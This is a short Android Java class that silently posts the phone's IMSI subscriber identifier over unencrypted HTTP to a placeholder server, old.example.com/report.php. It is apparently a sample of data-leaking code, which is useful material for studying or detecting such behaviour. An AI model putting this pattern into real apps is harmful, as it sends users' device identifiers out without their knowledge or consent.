package p;

import android.os.AsyncTask;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.apache.http.client.entity.UrlEncodedFormEntity;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.impl.client.DefaultHttpClient;
import org.apache.http.message.BasicNameValuePair;

final class Upload extends AsyncTask<String, Void, Boolean> {
    @Override
    protected Boolean doInBackground(String... values) {
        try {
            List<BasicNameValuePair> pairs = new ArrayList<>();
            pairs.add(new BasicNameValuePair("app", "demo"));
            pairs.add(new BasicNameValuePair("imsi", values[0]));
            HttpPost post = new HttpPost("http://old.example.com/report.php");
            post.setEntity(new UrlEncodedFormEntity(pairs, "UTF-8"));
            new DefaultHttpClient().execute(post);
            return true;
        } catch (IOException error) {
            return false;
        }
    }
}
